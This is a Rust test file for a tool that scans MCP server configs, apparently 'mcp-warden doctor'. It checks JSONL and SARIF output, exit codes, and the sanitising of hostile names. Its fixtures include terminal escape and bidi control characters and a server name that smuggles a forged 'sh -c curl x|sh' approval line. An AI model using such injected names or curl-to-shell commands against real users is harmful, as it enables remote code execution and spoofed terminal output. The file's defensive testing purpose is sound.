//! Output contracts: JSONL purity, SARIF location and validity, hostile names on
//! every channel, streams and exit codes.

use std::io::Read;
use std::process::Stdio;

use serde_json::json;

use crate::util::*;

/// Every character class that must never reach a terminal verbatim.
const HOSTILE: [&str; 24] = [
    "\n",
    "\r",
    "\x1b[2K",
    "\x1b[1;31m",
    "\u{7f}",
    "\u{85}",
    "\u{9b}",
    "\u{9d}",
    "\u{ad}",
    "\u{200b}",
    "\u{200f}",
    "\u{2028}",
    "\u{2029}",
    "\u{202e}",
    "\u{2066}",
    "\u{2064}",
    "\u{feff}",
    "\u{e0001}",
    "\u{e007f}",
    "\u{61c}",
    "\u{fe0f}",
    "\u{3164}",
    "\u{e000}",
    "\u{0378}",
];

fn hostile_name(ch: &str) -> String {
    format!("gh{ch}  mcp-warden pin sh -c 'curl x|sh' --approve #")
}

#[test]
fn hostile_server_names_are_neutralised_on_every_channel() {
    for ch in HOSTILE {
        let env = Env::new();
        let name = hostile_name(ch);
        // The second entry is malformed, so the hostile name also reaches a stderr warning.
        env.cursor(json!({
            name.clone(): {"url": "http://h.example.com/mcp"},
            format!("{name}-bad"): {"command": "node", "args": 3}
        }));
        let sarif = env.root().join("out.sarif");
        let text = env.doctor(&["--sarif", sarif.to_str().expect("utf-8")]);
        text.expect_code(2);
        assert!(
            text.stderr.contains("-bad"),
            "the malformed entry is named on stderr: {}",
            text.stderr
        );
        assert!(
            text.stderr.contains('\u{fffd}'),
            "{ch:?}: no U+FFFD on stderr"
        );
        let jsonl = env.doctor(&["--json"]);
        let sarif_text = std::fs::read_to_string(&sarif).expect("sarif written");
        for (channel, out) in [
            ("text", text.all()),
            ("jsonl", jsonl.all()),
            ("sarif", sarif_text),
        ] {
            // Newlines legitimately end lines; for them the forged-line check below is the test.
            if ch != "\n" {
                assert!(!out.contains(ch), "{ch:?} reached {channel}");
            }
            assert!(
                out.contains('\u{fffd}'),
                "no U+FFFD on {channel} for {ch:?}"
            );
            assert!(
                !out.lines()
                    .any(|l| l.trim_start().starts_with("mcp-warden pin sh")),
                "{ch:?} forged a pin line on {channel}"
            );
        }
    }
}

#[test]
fn hostile_text_in_paths_and_warnings_is_neutralised() {
    let env = Env::new();
    let dir = "evil\x1b]0;title\x07dir";
    let path = env.write(&format!("{dir}/mcp.json"), "{oops");
    let run = env.doctor(&["--no-discover", "--config", path.to_str().expect("utf-8")]);
    run.expect_code(2);
    assert!(!run.stderr.contains('\x1b'), "{:?}", run.stderr);
    assert!(!run.stderr.contains('\x07'));
    assert!(run.stderr.contains('\u{fffd}'));
}

#[test]
fn jsonl_stdout_is_pure_and_keys_are_ordered() {
    let env = Env::new();
    env.cursor(json!({"a": {"url": "http://h.example.com", "headers": {"X-Api-Key": GHP_ENG}}}));
    let run = env.doctor(&["--json"]);
    run.expect_code(1);
    let lines: Vec<&str> = run.stdout.lines().collect();
    let (summary, findings) = lines.split_last().expect("lines");
    assert!(summary.starts_with("{\"kind\": \"summary\", "), "{summary}");
    for line in findings {
        let v: serde_json::Value = serde_json::from_str(line).expect("JSON line");
        assert_eq!(v["kind"], "finding");
        let keys: Vec<&str> = line
            .split("\", \"")
            .map(|p| p.trim_start_matches("{\"").split('"').next().unwrap_or(""))
            .collect();
        assert_eq!(
            keys[..7],
            ["kind", "rule_id", "severity", "level", "target", "message", "snippet"],
            "{line}"
        );
    }
    assert!(!run.stdout.contains(GHP_ENG));
    // With nothing found, stdout holds the summary alone; the message goes to stderr.
    let empty = Env::new();
    let run = empty.doctor(&["--json"]);
    run.expect_code(0);
    assert_eq!(run.stdout.lines().count(), 1, "{}", run.stdout);
    assert!(run.stdout.starts_with("{\"kind\": \"summary\", "));
    assert!(run.stderr.contains("no MCP configs found"));
}

#[test]
fn sarif_locates_each_result_in_its_config_file() {
    let env = Env::new();
    env.write(
        "home/.cursor/mcp.json",
        "{\n  \"mcpServers\": {\n    \"gh\": {\"url\": \"http://h.example.com\"}\n  }\n}\n",
    );
    let sarif_path = env.root().join("d.sarif");
    let run = env.doctor(&["--sarif", sarif_path.to_str().expect("utf-8")]);
    run.expect_code(1);
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif_path).expect("read")).expect("json");
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(!results.is_empty());
    for r in results {
        let loc = &r["locations"][0]["physicalLocation"];
        let uri = loc["artifactLocation"]["uri"].as_str().expect("uri");
        assert!(uri.ends_with(".cursor/mcp.json"), "{uri}");
        assert_eq!(loc["region"]["startLine"], 3);
        // A finding about the URL points at its value; one about the whole entry
        // (no lock) at the entry's key.
        let column = if r["ruleId"] == "WRD-DOCTOR-NO-LOCK" {
            5
        } else {
            19
        };
        assert_eq!(loc["region"]["startColumn"], column, "{r}");
        assert_eq!(
            r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"],
            "~/.cursor/mcp.json#gh"
        );
    }
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules");
    assert!(rules
        .iter()
        .all(|r| r["shortDescription"]["text"].is_string()
            && r["properties"]["security-severity"].is_string()));
    let props = sarif["runs"][0]["properties"].to_string();
    assert!(
        props.contains("landlock") || props.contains("seccomp"),
        "{props}"
    );
}

#[test]
fn sarif_is_written_even_when_nothing_is_found() {
    let env = Env::new();
    let sarif_path = env.root().join("empty.sarif");
    let run = env.doctor(&["--sarif", sarif_path.to_str().expect("utf-8")]);
    run.expect_code(0);
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif_path).expect("written"))
            .expect("json");
    assert_eq!(sarif["runs"][0]["results"], json!([]));
}

#[test]
fn unwritable_sarif_is_exit_two_without_a_report() {
    let env = Env::new();
    env.cursor(json!({"ok": {"url": "http://h.example.com"}}));
    let bad = env.root().join("missing-dir/out.sarif");
    let run = env.doctor(&["--sarif", bad.to_str().expect("utf-8")]);
    run.expect_code(2);
    assert!(
        run.stderr.contains("error: cannot write SARIF"),
        "{}",
        run.stderr
    );
    assert!(run.stdout.is_empty());
}

#[test]
fn no_ansi_when_not_a_terminal_and_table_lists_findings_by_severity() {
    let env = Env::new();
    env.cursor(
        json!({"gh": {"command": "npx", "args": ["-y", "@x/y"], "env": {"GITHUB_TOKEN": GHP_CLI}}}),
    );
    let run = env.doctor(&[]);
    assert!(!run.stdout.contains('\x1b'));
    let crit = run
        .stdout
        .find("│ critical  WRD-SEC-GITHUB")
        .expect("critical row");
    let high = run
        .stdout
        .find("│ high      WRD-SUP-NPX-UNPINNED")
        .expect("high row");
    assert!(crit < high);
    assert!(run.stdout.contains("Posture findings — "));
    // The low no-lock finding is the server's Next steps entry, not a row.
    assert!(!run.stdout.contains("WRD-DOCTOR-NO-LOCK"), "{}", run.stdout);
    assert!(run.stdout.contains("Next steps"));
}

#[test]
fn broken_stdout_pipe_is_not_a_crash() {
    let env = Env::new();
    let many: serde_json::Map<String, serde_json::Value> = (0..2000)
        .map(|i| (format!("s{i}"), json!({"url": "http://h.example.com"})))
        .collect();
    env.cursor(serde_json::Value::Object(many));
    let home = env.home();
    let mut child = env
        .command(&[
            "doctor",
            "--json",
            "--home",
            home.to_str().expect("utf-8"),
            "--platform",
            "linux",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let mut first = [0u8; 16];
    child
        .stdout
        .as_mut()
        .expect("stdout")
        .read_exact(&mut first)
        .expect("read");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("wait");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(1), "{stderr}");
}

#[test]
fn help_hides_the_test_options() {
    let env = Env::new();
    let out = env.command(&["doctor", "--help"]).output().expect("run");
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("--config"));
    assert!(!help.contains("--home"));
    assert!(!help.contains("--platform"));
    assert!(!help.contains("--system-root"));
}

/// A home with one finding-bearing server in `~/.cursor/mcp.json`, one in a
/// `~/.claude.json` project section, a symlinked config (skipped) and a malformed
/// one (unreadable).
fn home_with_problems(env: &Env) {
    env.cursor(json!({"gh": {"url": "http://h.example.com/mcp"}}));
    env.write(
        "home/.claude.json",
        json!({"projects": {"/r": {"mcpServers": {"a": {"command": "npx", "args": ["-y", "pkg"]}}}}})
            .to_string(),
    );
    let target = env.write("elsewhere/mcp.json", "{}");
    env.symlink(&target, "home/.codeium/windsurf/mcp_config.json");
    env.write("home/.gemini/settings.json", "{\"mcpServers\": ");
}

fn summary_of(run: &Run) -> serde_json::Value {
    let records = run.all_jsonl();
    let summaries: Vec<&serde_json::Value> =
        records.iter().filter(|r| r["kind"] == "summary").collect();
    assert_eq!(summaries.len(), 1, "{}", run.stdout);
    let last = records.last().cloned().unwrap_or_default();
    assert_eq!(last["kind"], "summary", "the summary ends the stream");
    last
}

#[test]
fn jsonl_findings_say_which_file_server_and_project() {
    let env = Env::new();
    home_with_problems(&env);
    let run = env.doctor(&["--json"]);
    let records = run.jsonl();
    let findings: Vec<&serde_json::Value> =
        records.iter().filter(|r| r["kind"] == "finding").collect();
    assert!(!findings.is_empty());
    for f in &findings {
        let keys: Vec<&str> = f
            .as_object()
            .map(|o| o.keys().map(String::as_str).collect())
            .unwrap_or_default();
        assert_eq!(
            keys,
            [
                "kind",
                "rule_id",
                "severity",
                "level",
                "target",
                "message",
                "snippet",
                "file",
                "server",
                "project",
                "field",
                "line",
                "column",
                "suppressed"
            ],
            "{f}"
        );
        assert_eq!(f["suppressed"], serde_json::Value::Null);
    }
    let gh = findings
        .iter()
        .find(|f| f["target"] == "~/.cursor/mcp.json#gh")
        .expect("a finding at gh");
    assert_eq!(gh["file"], "~/.cursor/mcp.json");
    assert_eq!(gh["server"], "gh");
    assert_eq!(gh["project"], serde_json::Value::Null);
    let a = findings
        .iter()
        .find(|f| f["target"] == "~/.claude.json#projects[/r]#a")
        .expect("a finding at a");
    assert_eq!(a["file"], "~/.claude.json");
    assert_eq!(a["server"], "a");
    assert_eq!(a["project"], "/r");
}

#[test]
fn jsonl_summary_counts_and_carries_the_process_exit_code() {
    let env = Env::new();
    home_with_problems(&env);
    let run = env.doctor(&["--json"]);
    run.expect_code(2);
    let summary = summary_of(&run);
    assert_eq!(summary["exit_code"], 2);
    assert_eq!(summary["skipped"], 1, "{summary}");
    assert_eq!(summary["unreadable"], 1, "{summary}");
    assert_eq!(summary["servers"], 2);
    assert_eq!(summary["servers_without_approved_lock"], 2);
    let findings = run.jsonl().into_iter().filter(|r| r["kind"] == "finding");
    let mut by_severity = std::collections::BTreeMap::<String, u64>::new();
    for f in findings {
        *by_severity
            .entry(f["severity"].as_str().unwrap_or("").to_string())
            .or_default() += 1;
    }
    for severity in ["critical", "high", "medium", "low"] {
        assert_eq!(
            summary["findings"][severity].as_u64(),
            Some(by_severity.get(severity).copied().unwrap_or(0)),
            "{severity}: {summary}"
        );
    }
    // Exit 1 (findings, nothing unreadable) and exit 0 (nothing at all) alike.
    let one = Env::new();
    one.cursor(json!({"gh": {"url": "http://h.example.com/mcp"}}));
    let run = one.doctor(&["--json"]);
    run.expect_code(1);
    assert_eq!(summary_of(&run)["exit_code"], 1);
    let empty = Env::new();
    let run = empty.doctor(&["--json"]);
    run.expect_code(0);
    let summary = summary_of(&run);
    assert_eq!(summary["exit_code"], 0);
    assert_eq!(summary["files_read"], 0);
    // --fail-on is the caller's threshold: the summary says what the process says.
    let run = one.doctor(&["--json", "--fail-on", "critical"]);
    assert_eq!(
        summary_of(&run)["exit_code"].as_i64(),
        Some(i64::from(run.code))
    );
}

/// Needs `Report.problems` filled by the scan (switched on when it is).
#[test]
fn jsonl_summary_lists_skipped_and_unreadable_files_with_their_reasons() {
    let env = Env::new();
    home_with_problems(&env);
    let run = env.doctor(&["--json"]);
    let summary = summary_of(&run);
    let problems = summary["problems"].as_array().cloned().unwrap_or_default();
    let skipped = problems
        .iter()
        .find(|p| p["kind"] == "skipped")
        .expect("the symlinked file");
    assert_eq!(skipped["path"], "~/.codeium/windsurf/mcp_config.json");
    assert!(skipped["reason"]
        .as_str()
        .is_some_and(|r| r.contains("symlink")));
    assert!(skipped["rescan"]
        .as_str()
        .is_some_and(|r| r.starts_with("mcp-warden doctor --config ")));
    let unreadable = problems
        .iter()
        .find(|p| p["kind"] == "unreadable")
        .expect("the malformed file");
    assert_eq!(unreadable["path"], "~/.gemini/settings.json");
    assert!(unreadable["reason"].as_str().is_some_and(|r| !r.is_empty()));
}

#[test]
fn inventory_and_servers_lines_stay_as_they_are() {
    let env = Env::new();
    env.cursor(json!({"gh": {"url": "http://h.example.com/mcp"}}));
    let run = env.doctor(&["--json", "--inventory"]);
    let kinds: Vec<String> = run
        .all_jsonl()
        .iter()
        .map(|r| r["kind"].as_str().unwrap_or("").to_string())
        .collect();
    assert_eq!(kinds.first().map(String::as_str), Some("server"));
    assert_eq!(kinds.last().map(String::as_str), Some("summary"));
    let servers = env.doctor(&["--servers", "--json"]);
    assert!(servers.all_jsonl().iter().all(|r| r["kind"] != "summary"));
}

fn sarif_of(env: &Env, args: &[&str]) -> (Run, serde_json::Value) {
    let path = env.root().join("out.sarif");
    let mut full = vec!["--sarif", path.to_str().expect("utf-8")];
    full.extend_from_slice(args);
    let run = env.doctor(&full);
    let log =
        serde_json::from_str(&std::fs::read_to_string(&path).expect("written")).expect("json");
    (run, log)
}

#[test]
fn sarif_project_files_are_relative_to_srcroot() {
    let env = Env::new();
    env.write(
        "work/.mcp.json",
        "{\n  \"mcpServers\": {\n    \"p\": {\"url\": \"http://h.example.com\"}\n  }\n}\n",
    );
    env.cursor(json!({"gh": {"url": "http://h.example.com/mcp"}}));
    let (_, log) = sarif_of(&env, &[]);
    let run = &log["runs"][0];
    let root = run["originalUriBaseIds"]["%SRCROOT%"]["uri"]
        .as_str()
        .expect("%SRCROOT%");
    assert!(
        root.starts_with("file:///") && root.ends_with("/work/"),
        "{root}"
    );
    let artifacts: Vec<serde_json::Value> = run["results"]
        .as_array()
        .expect("results")
        .iter()
        .map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"].clone())
        .collect();
    assert!(
        artifacts.contains(&json!({"uri": ".mcp.json", "uriBaseId": "%SRCROOT%"})),
        "{artifacts:?}"
    );
    // A user file outside the project stays an absolute file:// URI.
    assert!(artifacts.iter().any(|a| a["uri"]
        .as_str()
        .is_some_and(|u| u.starts_with("file:///") && u.ends_with("/home/.cursor/mcp.json"))
        && a.get("uriBaseId").is_none()));
}

#[test]
fn sarif_execution_is_unsuccessful_exactly_when_the_exit_is_two() {
    let env = Env::new();
    home_with_problems(&env);
    let (run, log) = sarif_of(&env, &[]);
    run.expect_code(2);
    let invocation = &log["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false);
    assert_eq!(invocation["exitCode"], 2);
    let env = Env::new();
    env.cursor(json!({"gh": {"url": "http://h.example.com/mcp"}}));
    let (run, log) = sarif_of(&env, &[]);
    run.expect_code(1);
    assert_eq!(
        log["runs"][0]["invocations"][0]["executionSuccessful"],
        true
    );
}

/// Needs `Report.problems` filled by the scan (switched on when it is).
#[test]
fn sarif_lists_files_not_scanned_as_notifications() {
    let env = Env::new();
    home_with_problems(&env);
    let (_, log) = sarif_of(&env, &[]);
    let notes = log["runs"][0]["invocations"][0]["toolExecutionNotifications"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let kinds: Vec<(&str, &str)> = notes
        .iter()
        .map(|n| {
            (
                n["properties"]["kind"].as_str().unwrap_or(""),
                n["level"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert!(kinds.contains(&("skipped", "warning")), "{notes:?}");
    assert!(kinds.contains(&("unreadable", "error")), "{notes:?}");
    assert!(notes.iter().all(|n| n["message"]["text"]
        .as_str()
        .is_some_and(|t| t.contains(n["properties"]["path"].as_str().unwrap_or("\0")))));
}

/// Needs value positions from the child (`Finding.at`; switched on when they are
/// filled): each result's region is its value's, not the server key's.
#[test]
fn sarif_regions_point_at_the_values() {
    let env = Env::new();
    env.write(
        "home/.cursor/mcp.json",
        "{\n  \"mcpServers\": {\n    \"gh\": {\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"pkg\"],\n      \"env\": {\"GITHUB_TOKEN\": \"ghp_Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2\"}\n    }\n  }\n}\n",
    );
    let (_, log) = sarif_of(&env, &[]);
    let results = log["runs"][0]["results"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let region = |rule: &str| {
        results
            .iter()
            .find(|r| r["ruleId"] == rule)
            .map(|r| {
                let reg = &r["locations"][0]["physicalLocation"]["region"];
                (reg["startLine"].as_u64(), reg["startColumn"].as_u64())
            })
            .unwrap_or_else(|| panic!("no {rule}"))
    };
    // The token's value starts on line 6 at column 31; the package on line 5.
    assert_eq!(region("WRD-SEC-GITHUB"), (Some(6), Some(31)));
    assert_eq!(region("WRD-SUP-NPX-UNPINNED").0, Some(5));
    // The no-lock finding is about the whole entry: its key.
    assert_eq!(region("WRD-DOCTOR-NO-LOCK"), (Some(3), Some(5)));
}
